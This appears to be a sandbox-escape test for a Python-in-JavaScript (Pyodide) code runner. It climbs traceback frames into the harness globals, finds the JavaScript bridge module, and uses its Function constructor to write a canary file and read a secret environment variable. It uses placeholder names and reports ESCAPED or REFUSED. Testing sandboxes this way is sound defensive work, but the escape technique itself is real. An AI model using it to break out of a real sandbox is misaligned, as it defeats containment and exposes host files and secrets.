# Tries: raise and catch an exception, then climb its traceback's tb_frame.f_back into the harness.
import asyncio
import json
import types

CANARY = "__LOOPLAB_CANARY__"
SECRET_NAME = "__LOOPLAB_SECRET_NAME__"

BODY = f"""
  const fs = globalThis.process?.getBuiltinModule?.('fs');
  fs?.writeFileSync({json.dumps(CANARY)}, 'written through tb_frame');
  return String(globalThis.process?.env?.[{json.dumps(SECRET_NAME)}]);
"""


def harness_globals():
    try:
        raise RuntimeError("where am I?")
    except RuntimeError as exc:
        frame = exc.__traceback__.tb_frame
    while frame is not None:
        yield frame.f_code.co_filename, frame.f_globals
        frame = frame.f_back


async def main():
    seen = []
    for filename, namespace in harness_globals():
        seen.append(filename)
        for value in list(namespace.values()):
            if isinstance(value, types.ModuleType) and value.__name__ in ("js", "pyodide_js"):
                secret = value.constructor.constructor(BODY)()
                print("ESCAPED: tb_frame led to", value.__name__, "the secret is", secret)
                return
    print("REFUSED: no JavaScript module in", len(seen), "frames")


asyncio.run(main())
